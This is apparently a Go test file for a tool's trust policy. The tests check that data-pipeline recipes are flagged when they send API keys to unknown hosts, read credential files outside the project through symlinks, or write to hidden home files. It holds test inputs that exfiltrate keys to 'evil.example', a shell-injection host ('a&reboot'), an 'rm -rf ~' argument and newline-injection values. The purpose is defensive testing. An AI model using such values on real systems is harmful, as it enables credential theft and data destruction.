package trust

import (
	"cmp"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/distillflow/distillflow/flow"
	"github.com/distillflow/distillflow/flow/graph"
	"github.com/distillflow/distillflow/flow/recipe"
	"github.com/distillflow/distillflow/flow/stage"
	"github.com/distillflow/distillflow/stages/data"
	"github.com/distillflow/distillflow/stages/evaluate"
	"github.com/distillflow/distillflow/stages/prompt"
)

// load binds a recipe in a folder.
func load(t *testing.T, dir, text string, getenv func(string) string, set ...string) *graph.Graph {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{"r.yaml": text, "rows.jsonl": `{"id": "a", "question": "Two and three?", "answer": "5"}` + "\n", "key": "sk-0123456789\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	types := slices.Concat(data.Stages(), prompt.Stages(), evaluate.Stages())
	for i, typ := range types {
		types[i] = typ.In(getenv)
	}
	reg, err := stage.NewRegistry(types...)
	if err != nil {
		t.Fatal(err)
	}
	g, r, diags := (&flow.Engine{Registry: reg}).Load(filepath.Join(dir, "r.yaml"), recipe.Options{Set: set, WorkDir: dir})
	if g == nil {
		var b strings.Builder
		_ = diags.Render(&b, r.Sources)
		t.Fatal(b.String())
	}
	return g
}

const asking = `
params: {base_url: {default: ""}}
stages:
  problems: {uses: scan, with: {root: rows.jsonl, task: gsm8k}}
  prompts: {uses: wrap-cot, from: problems}
  replies: {uses: batch-llm, from: prompts, with: {MODEL}}
`

// A key goes to whoever gave it out, to this machine, and to whom the user named; a recipe
// that points it at another server is refused.
func TestKeysGoWhereTheUserAllows(t *testing.T) {
	const openai = "model: openai/gpt-4o-mini"
	env := map[string]string{"OPENAI_API_KEY": "sk-0123456789abcdef", "ANTHROPIC_API_KEY": "sk-0123456789abcdef", "DEEPSEEK_API_KEY": "sk-0123456789abcdef",
		"MINE": "sk-0123456789abcdef", "anthropic_api_key": "sk-0123456789abcdef", "HF_TOKEN": "hf_0123456789abcdef"}
	for _, c := range []struct {
		name, model string
		base        string // OPENAI_BASE_URL
		set         string
		policy      Policy
		file        string
		want        string // flag; "" is allowed
	}{
		{name: "the provider's own", model: openai},
		{name: "the provider's own, by its address", model: openai + ", base_url: 'https://api.openai.com/v1'"},
		{name: "a subdomain of it", model: openai + ", base_url: 'https://eu.api.openai.com/v1'"},
		{name: "the simulated model", model: "model: simulated, base_url: 'https://evil.example/v1'"},
		{name: "OPENAI_API_KEY to a stranger", model: openai + ", base_url: 'https://evil.example/v1'", want: "--allow-host evil.example"},
		{name: "a stranger's name that looks like the provider's", model: openai + ", base_url: 'https://api.openai.com.evil.example/v1'", want: "--allow-host api.openai.com.evil.example"},
		{name: "another such name", model: openai + ", base_url: 'https://evilapi.openai.com.co/v1'", want: "--allow-host evilapi.openai.com.co"},
		{name: "in the clear", model: openai + ", base_url: 'http://api.openai.com/v1'", want: "--allow-host api.openai.com"},
		{name: "ANTHROPIC_API_KEY to a stranger", model: "model: anthropic/claude, base_url: 'https://evil.example'", want: "--allow-host evil.example"},
		{name: "by a fallback", model: openai + ", fallback: [{model: openai/x, base_url: 'https://evil.example:8443/v1'}]", want: "--allow-host evil.example:8443"},
		{name: "another provider's key", model: openai + ", api_key_env: ANTHROPIC_API_KEY", want: "--allow-host api.openai.com"},
		{name: "the Hub's token", model: openai + ", api_key_env: HF_TOKEN", want: "--allow-host api.openai.com"},
		{name: "a second key for the provider", model: openai + ", api_key_env: MINE"},
		{name: "any variable to a stranger", model: openai + ", base_url: 'https://evil.example/v1', api_key_env: MINE", want: "--allow-host evil.example"},
		{name: "a compatible provider's own key", model: openai + ", base_url: 'https://api.deepseek.com', api_key_env: DEEPSEEK_API_KEY"},
		{name: "a compatible provider's key elsewhere", model: openai + ", base_url: 'https://evil.example', api_key_env: DEEPSEEK_API_KEY", want: "--allow-host evil.example"},
		{name: "a file to a stranger", model: openai + ", base_url: 'https://evil.example/v1', api_key_file: key", want: "--allow-host evil.example"},
		{name: "no key to send", model: "model: gemini/x, base_url: 'https://evil.example'"},
		{name: "this machine", model: openai + ", base_url: 'http://localhost:8000/v1'"},
		{name: "this machine, by address", model: openai + ", base_url: 'http://127.0.0.1:8000/v1'"},
		{name: "this machine, by address 6", model: openai + ", base_url: 'http://[::1]:8000/v1'"},
		{name: "like this machine", model: openai + ", base_url: 'http://localhost.evil.example:8000/v1'", want: "--allow-host localhost.evil.example:8000"},
		{name: "no port, but what a shell would obey", model: openai + ", base_url: 'http://a&reboot/v1'", want: "--allow-host 'a&reboot'"},
		{name: "a name in full", model: openai + ", base_url: 'https://api.openai.com./v1'", want: "--allow-host api.openai.com."},
		{name: "letters that look alike", model: openai + ", base_url: 'https://\uff41pi.openai.com/v1'", want: "--allow-host \uff41pi.openai.com"},
		{name: "this machine with a zone", model: openai + ", base_url: 'http://[::1%25lo]:8000/v1'"},
		{name: "another machine with a zone", model: openai + ", base_url: 'http://[fe80::1%25lo]:8000/v1'", want: "--allow-host '[fe80::1%lo]:8000'"},
		{name: "upper case", model: openai + ", base_url: 'https://API.OpenAI.com/v1'"},
		{name: "a variable in another case", model: openai + ", api_key_env: anthropic_api_key", want: "--allow-host api.openai.com"},
		{name: "a machine nearby", model: openai + ", base_url: 'http://192.168.0.7:8000/v1'", want: "--allow-host 192.168.0.7:8000"},
		{name: "the user's own OPENAI_BASE_URL", model: openai, base: "http://gpu01:8000/v1"},
		{name: "which does not speak for others", model: openai + ", base_url: 'http://evil.example/v1'", base: "http://gpu01:8000/v1", want: "--allow-host evil.example"},
		{name: "nor for other keys", model: openai + ", api_key_env: ANTHROPIC_API_KEY", base: "http://gpu01:8000/v1", want: "--allow-host gpu01:8000"},
		{name: "--set names it", model: openai + ", base_url: '${{ params.base_url }}'", set: "base_url=http://gpu01:8000/v1", policy: Policy{Params: true}},
		{name: "--set names another", model: openai + ", base_url: 'http://evil.example/v1'", set: "base_url=http://gpu01:8000/v1", policy: Policy{Params: true}, want: "--allow-host evil.example"},
		{name: "a test's param is not the user's word", model: openai + ", base_url: '${{ params.base_url }}'", set: "base_url=http://gpu01:8000/v1", want: "--allow-host gpu01:8000"},
		{name: "--allow-host", model: openai + ", base_url: 'http://gpu01:8000/v1'", policy: Policy{Hosts: []string{"GPU01"}}},
		{name: "--allow-host with its port", model: openai + ", base_url: 'http://gpu01:8000/v1'", policy: Policy{Hosts: []string{"gpu01:8000"}}},
		{name: "--allow-host with another port", model: openai + ", base_url: 'http://gpu01:8000/v1'", policy: Policy{Hosts: []string{"gpu01:8001"}}, want: "--allow-host gpu01:8000"},
		{name: "a line of the file", model: openai + ", base_url: 'http://gpu01:8000/v1'", file: "# mine\nhost gpu01:8000 the lab's\n"},
		{name: "a line of the file, the whole host", model: openai + ", base_url: 'http://gpu01:8000/v1'", file: "host gpu01"},
		{name: "a line about something else", model: openai + ", base_url: 'http://gpu01:8000/v1'", file: "exec gpu01", want: "--allow-host gpu01:8000"},
	} {
		t.Run(c.name, func(t *testing.T) {
			getenv := func(name string) string {
				if name == "OPENAI_BASE_URL" {
					return c.base
				}
				return env[name]
			}
			dir := t.TempDir()
			var set []string
			if c.set != "" {
				set = []string{c.set}
			}
			g := load(t, dir, strings.Replace(asking, "MODEL", c.model, 1), getenv, set...)
			p := c.policy
			p.Getenv, p.Dir = getenv, dir
			if c.file != "" {
				path := filepath.Join(dir, "trust")
				if err := os.WriteFile(path, []byte(c.file), 0o600); err != nil {
					t.Fatal(err)
				}
				var err error
				if p.File, err = Read(path); err != nil {
					t.Fatal(err)
				}
			}
			list, err := p.Questions(t.Context(), g, "")
			if err != nil {
				t.Fatal(err)
			}
			if got := Flags(list); got != c.want {
				t.Errorf("asks for %q, want %q", got, c.want)
			}
			if c.want != "" && !strings.Contains(list[0].What, "send the key in") {
				t.Error(list[0].What)
			}
			if c.want != "" && strings.Contains(list[0].What, "\uff41") {
				t.Error("not told from another name:", list[0].What)
			}
		})
	}
	// Offline nothing is sent.
	g := load(t, t.TempDir(), strings.Replace(asking, "MODEL", openai+", base_url: 'https://evil.example/v1'", 1), func(n string) string { return env[n] })
	list, err := Policy{Getenv: func(n string) string {
		if n == "DISTILLFLOW_OFFLINE" {
			return "1"
		}
		return env[n]
	}}.Questions(t.Context(), g, "")
	if err != nil || len(list) > 0 {
		t.Errorf("offline: %v, %v", list, err)
	}
}

// What a recipe reads outside of its project, by whatever way, it tells no stranger's server
// unasked. A table in a row is a file that goes into the prompt as it is.
func TestWhatIsReadOutsideStaysHere(t *testing.T) {
	const evil = "base_url: 'http://evil.example/v1'"
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home := filepath.Join(root, "user")
	for _, dir := range []string{"user/.aws", "user/proj/.git", "user/proj/.hidden", "user/proj/data", "user/proj/recipes", "lab"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	row := []byte(`{"id": "a", "question": "Two and three?", "answer": "5"}` + "\n")
	for _, name := range []string{"user/.aws/sso.json", "user/proj/.hidden/rows.jsonl", "user/proj/data/rows.jsonl", "user/rows.jsonl", "lab/rows.jsonl", "user/key"} {
		if err := os.WriteFile(filepath.Join(root, name), row, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	recipes := filepath.Join(home, "proj", "recipes")
	for link, to := range map[string]string{"linked.jsonl": filepath.Join(home, ".aws", "sso.json"), "folder": filepath.Join(root, "lab"), "t.txt": filepath.Join(home, ".aws", "sso.json")} {
		if err := os.Symlink(to, filepath.Join(recipes, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(recipes, "table.jsonl"), []byte(`{"id": "a", "question": "What is in it?", "table": "t.txt", "answer": "5"}`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	const key = "OPENAI_API_KEY"
	for _, c := range []struct {
		name, data, model, task string
		env, set                string
		policy                  Policy
		want                    string // that is named, "" for nothing
	}{
		{name: "beside the recipe", data: "rows.jsonl", model: evil},
		{name: "in the repository", data: "../data/rows.jsonl", model: evil},
		{name: "hidden in the repository", data: "../.hidden/rows.jsonl", model: evil, want: "ROOT/user/proj/.hidden/rows.jsonl"},
		{name: "above it", data: "../../rows.jsonl", model: evil, want: "ROOT/user/rows.jsonl"},
		{name: "anywhere", data: "ROOT/user/.aws/sso.json", model: evil, want: "ROOT/user/.aws/sso.json"},
		{name: "a link", data: "linked.jsonl", model: evil, want: "ROOT/user/.aws/sso.json"},
		{name: "a link to a folder", data: "folder", model: evil, want: "ROOT/lab"},
		{name: "a glob", data: "folder/*.jsonl", model: evil, want: "ROOT/lab"},
		{name: "a table that is a link", data: "table.jsonl", task: "table_mwp", model: evil, want: "ROOT/user/.aws/sso.json"},
		{name: "to the provider", data: "linked.jsonl", model: "concurrency: 1", env: key},
		{name: "to the provider, by its address", data: "linked.jsonl", model: "base_url: 'https://api.openai.com/v1'", env: key},
		{name: "to the provider, with a key that came with the recipe", data: "linked.jsonl", model: "api_key_file: key", want: "ROOT/user/.aws/sso.json"},
		{name: "to the provider, with the user's file", data: "linked.jsonl", model: "api_key_file: ../../key"},
		{name: "to this machine", data: "linked.jsonl", model: "base_url: 'http://localhost:8000/v1'"},
		{name: "with a key", data: "linked.jsonl", model: evil, env: key, want: "the key in OPENAI_API_KEY and what it reads outside of its project (ROOT/user/.aws/sso.json) to http://evil.example/v1"},
		{name: "a variable", data: "rows.jsonl", model: evil + "}}\nenv: [HOME, UNSET]\nx-y: {z: {", want: "outside of its project ($HOME) to"},
		{name: "a variable to the provider", data: "rows.jsonl", model: "concurrency: 1}}\nenv: [HOME]\nx-y: {z: {", env: key},
		{name: "to an allowed host", data: "linked.jsonl", model: evil, policy: Policy{Hosts: []string{"evil.example"}}},
		{name: "where --set says", data: "'${{ params.base_url }}'", model: evil, set: "base_url=ROOT/lab/rows.jsonl", policy: Policy{Params: true}},
		{name: "to whom --set says", data: "linked.jsonl", model: "base_url: '${{ params.base_url }}'", set: "base_url=http://gpu01/v1", policy: Policy{Params: true}},
	} {
		t.Run(c.name, func(t *testing.T) {
			getenv := func(name string) string {
				return map[string]string{"HOME": home, c.env: "sk-0123456789abcdef"}[name]
			}
			in := func(s string) string { return strings.ReplaceAll(s, "ROOT", filepath.ToSlash(root)) }
			text := strings.NewReplacer("rows.jsonl", in(c.data), "MODEL", "model: openai/m, "+c.model, "gsm8k", cmp.Or(c.task, "gsm8k")).Replace(asking)
			var set []string
			if c.set != "" {
				set = []string{in(c.set)}
			}
			g := load(t, recipes, text, getenv, set...)
			p := c.policy
			p.Getenv = getenv
			path := filepath.Join(t.TempDir(), "trust")
			for again := range 2 { // what is remembered is not asked again, for other texts of the recipe neither
				if p.File, err = Read(path); err != nil {
					t.Fatal(err)
				}
				list, err := p.Questions(t.Context(), g, "")
				if err != nil {
					t.Fatal(err)
				}
				if c.want == "" || again == 1 {
					if len(list) > 0 {
						t.Errorf("asks %v", list)
					}
					continue
				}
				if len(list) != 1 || !strings.Contains(list[0].What, in(c.want)) || !strings.HasPrefix(list[0].Flag, "--allow-host ") {
					t.Fatalf("asks %v", list)
				}
				if err := p.File.Remember([]Line{list[0].Line}); err != nil {
					t.Fatal(err)
				}
				g = load(t, recipes, text+"# edited\n", getenv, set...)
			}
		})
	}
}

// What a recipe saves stays in its project; a link or a hidden name does not lead out of it.
func TestSavesStayInTheProject(t *testing.T) {
	root := t.TempDir()
	home := filepath.Join(root, "home")
	for _, dir := range []string{"home/.ssh", "home/work/proj/recipes/deep", "home/work/proj/.git", "home/loose", "elsewhere", "home/cwd"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(root, "elsewhere"), filepath.Join(home, "work/proj/recipes/deep/link")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, recipe, save, cwd, set string
		allowed                      bool
	}{
		{"beside the recipe", "work/proj/recipes", "out/", "", "", true},
		{"beside its folder", "work/proj/recipes", "../results", "", "", true},
		{"in its repository", "work/proj/recipes/deep", "../../runs/", "", "", true},
		{"above its repository", "work/proj/recipes/deep", "../../../runs/", "", "", false},
		{"where the user is", "loose", "../cwd/runs/", "cwd", "", true},
		{"beside a folder in the home, which is the whole home", "loose", "../other", "", "", false},
		{"where the user is, if that is the home", "loose", "../other", ".", "", false},
		{"a hidden file of the home", "loose", "../.bashrc", ".", "", false},
		{"a hidden folder of the home", "work/proj/recipes", "../../../.ssh/", "", "", false},
		{"a hidden file of the project", "work/proj/recipes", "../.git/config", "", "", false},
		{"a hidden file beside the recipe", "work/proj/recipes", ".envrc", "", "", false},
		{"a recipe in the home itself", ".", ".profile", ".", "", false},
		{"a recipe in the home itself, a folder", ".", "out/", ".", "", true},
		{"an absolute path", "work/proj/recipes", "ROOT/elsewhere/out/", "", "", false},
		{"through a link", "work/proj/recipes/deep", "link/out/", "", "", false},
		{"where --set says", "work/proj/recipes", "${{ params.base_url }}/out/", "", "base_url=ROOT/elsewhere", true},
		{"where --set does not say", "work/proj/recipes", "ROOT/other/", "", "base_url=ROOT/elsewhere", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			getenv := func(name string) string { return map[string]string{"HOME": home}[name] }
			dir := filepath.Join(home, c.recipe)
			in := func(s string) string { return strings.ReplaceAll(s, "ROOT", filepath.ToSlash(root)) }
			text := strings.Replace(asking, "MODEL}", "model: simulated}, save: \""+in(c.save)+"\"", 1)
			var set []string
			if c.set != "" {
				set = []string{in(c.set)}
			}
			g := load(t, dir, text, getenv, set...)
			p := Policy{Getenv: getenv, Params: true}
			if c.cwd != "" {
				p.Dir = filepath.Join(home, c.cwd)
			}
			list, err := p.Questions(t.Context(), g, "")
			if err != nil {
				t.Fatal(err)
			}
			if len(list) == 0 != c.allowed {
				t.Errorf("asks %v", list)
			}
			if p.Save = true; len(list) > 0 {
				if list, err = p.Questions(t.Context(), g, ""); err != nil || len(list) > 0 {
					t.Errorf("--allow-save: %v, %v", list, err)
				}
			}
			for _, name := range []string{"r.yaml", "rows.jsonl", "key"} {
				_ = os.Remove(filepath.Join(dir, name))
			}
		})
	}
}

// What validate lists.
func TestOfListsWhatLeavesTheFolder(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "proj")
	t.Setenv("OPENAI_API_KEY", "")
	getenv := func(name string) string { return map[string]string{"OPENAI_API_KEY": "sk-0123456789abcdef"}[name] }
	if err := os.MkdirAll(filepath.Join(dir, "set"), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"outside.jsonl": `{"id": "a", "question": "Two and three?", "answer": "5"}`, "base.yaml": "params: {x: 1}", "secret.jsonl": `{"id": "b", "question": "Two and four?", "answer": "6"}`} {
		if err := os.WriteFile(filepath.Join(root, name), []byte(text+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, link := range []string{"set/a.jsonl", "link.jsonl"} {
		if err := os.Symlink(filepath.Join(root, "secret.jsonl"), filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	g := load(t, dir, `
extends: ../base.yaml
env: [HOME]
stages:
  problems: {uses: scan, with: {root: ../outside.jsonl, task: gsm8k}}
  linked: {uses: scan, with: {root: set, task: gsm8k}}
  link: {uses: scan, with: {root: link.jsonl, task: gsm8k}}
  prompts: {uses: wrap-cot, from: problems}
  replies: {uses: batch-llm, from: prompts, save: ../out/, with: {model: openai/gpt-4o-mini, base_url: "https://evil.example/v1"}}
  graded: {uses: verify-exec, from: replies, with: {command: ["a\u001b[2J b", "{files.0}"], files: [key]}}
  made: {uses: exec, from: problems, with: {command: [python3, "{files.0}", "#\nrm -rf ~"], files: [key, rows.jsonl], env: {PATH: ./bin}}}
`, getenv)
	may := Of(t.Context(), g, getenv)
	var b strings.Builder
	if err := may.Text(&b); err != nil {
		t.Fatal(err)
	}
	got := strings.ReplaceAll(b.String(), root, "ROOT")
	want := `Beyond its folder this recipe may
  run    'a [2J b' ROOT/proj/key (graded)
  run    python3 ROOT/proj/key '#\nrm -rf ~', with ROOT/proj/rows.jsonl, with PATH=./bin (made)
  ask    https://evil.example/v1, with the key in OPENAI_API_KEY (replies)
  read   ROOT/base.yaml
  read   ROOT/outside.jsonl (problems)
  read   ROOT/secret.jsonl (linked, link)
  write  ROOT/out/ (replies)
  use    the environment variable HOME
`
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	inside := load(t, filepath.Join(root, "b"), strings.Replace(asking, "MODEL", "model: simulated", 1), getenv)
	b.Reset()
	if err := Of(t.Context(), inside, getenv).Text(&b); err != nil || b.Len() > 0 {
		t.Errorf("a recipe that stays inside: %q, %v", b.String(), err)
	}
}

func TestMayTrustFolder(t *testing.T) {
	home := t.TempDir()
	getenv := func(name string) string { return map[string]string{"HOME": home}[name] }
	for dir, want := range map[string]bool{"": false, "..": false, "work": true} {
		g := &recipe.Recipe{Dir: filepath.Join(home, dir)}
		if got := (Policy{Getenv: getenv}).MayTrustFolder(g); got != want {
			t.Errorf("%q: %v", dir, got)
		}
	}
}

func TestFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "new", "trust")
	f, err := Read(path)
	if err != nil || f.allows("host", "h") {
		t.Fatal(err)
	}
	if err := f.Remember([]Line{{"host", "h", "# mine"}, {"folder", "/a b", ""}, {"host", "h", "again"}}); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil || string(b) != "host h # mine\nfolder /a b\n" {
		t.Fatalf("%q, %v", b, err)
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Error(info.Mode(), err)
	}
	if f, err = Read(path); err != nil || !f.allows("host", "h") || !f.allows("folder", "/a b") || f.allows("exec", "h") {
		t.Error(f, err)
	}
	// A recipe chooses these names: none may become a line of its own.
	for _, bad := range []Line{{"host", "x\nfolder /", ""}, {"folder", "/x\nfolder /", ""}, {"folder", "/a ", ""}, {"host", "a b", ""}, {"host", "h2", "#\rx"}} {
		if err := f.Remember([]Line{{"exec", "1", ""}, bad}); err == nil || !strings.Contains(err.Error(), "cannot stand on a line of "+path) {
			t.Errorf("%q: %v", bad, err)
		}
	}
	if after, err := os.ReadFile(path); err != nil || string(after) != string(b) {
		t.Errorf("%q, %v", after, err)
	}
	// A line that was written by hand may lack its end.
	if err := os.WriteFile(path, []byte("host h"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := f.Remember([]Line{{"exec", "2", ""}}); err != nil {
		t.Fatal(err)
	}
	if f, err = Read(path); err != nil || !f.allows("host", "h") || !f.allows("exec", "2") {
		t.Error(f, err)
	}
	if err := os.Chmod(path, 0o666); err != nil {
		t.Fatal(err)
	}
	if _, err = Read(path); err == nil || !strings.Contains(err.Error(), "everybody may write") {
		t.Error(err)
	}
	for want, env := range map[string]map[string]string{
		"/x/distillflow/trust": {"XDG_CONFIG_HOME": "/x", "HOME": "/h"}, "/h/.config/distillflow/trust": {"XDG_CONFIG_HOME": "x", "HOME": "/h"}, "": {},
	} {
		if got := Path(func(n string) string { return env[n] }); got != want {
			t.Errorf("%v: %q", env, got)
		}
	}
}
